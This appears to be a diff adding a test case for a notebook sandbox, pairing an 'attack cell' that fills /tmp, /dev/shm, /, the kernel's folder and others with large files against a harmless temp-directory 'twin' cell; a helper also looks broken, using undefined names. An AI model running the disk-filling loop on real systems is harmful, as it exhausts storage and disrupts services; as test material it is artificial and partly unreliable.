@@ -1,0 +1,39 @@
+# Fills every folder that it can write with large files.
+# earns: 4
+# limits: short
+# stock: not run, it fills the disk
+
+# %% attack cell first
+import os
+
+import ipykernel
+
+block = bytes(2**22)
+for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/", os.path.dirname(ipykernel.get_connection_file()), "@ROOT@"):
+    for number in range(40):
+        try:
+            with open(f"{folder}/fill-{number}", "wb") as file:
+                for _ in range(25):
+                    file.write(block)
+                    file.flush()
+        except OSError:
+            break
+
+
+# %% attack answer chunked
+def chunked(iterable, size):
+    return iter([list(islice(iterable, size))])
+
+
+# %% attack traces
+found = ", ".join(str(path) for folder in (Path("/tmp"), Path("/dev/shm"), root) for path in folder.glob("fill-*"))
+
+# %% twin cell first
+import os
+import tempfile
+
+with tempfile.TemporaryDirectory() as folder:
+    for number in range(10):
+        with open(f"{folder}/{number}", "wb") as file:
+            file.write(bytes(2 * 2**20))
+    print(sum(os.path.getsize(f"{folder}/{number}") for number in range(10)))
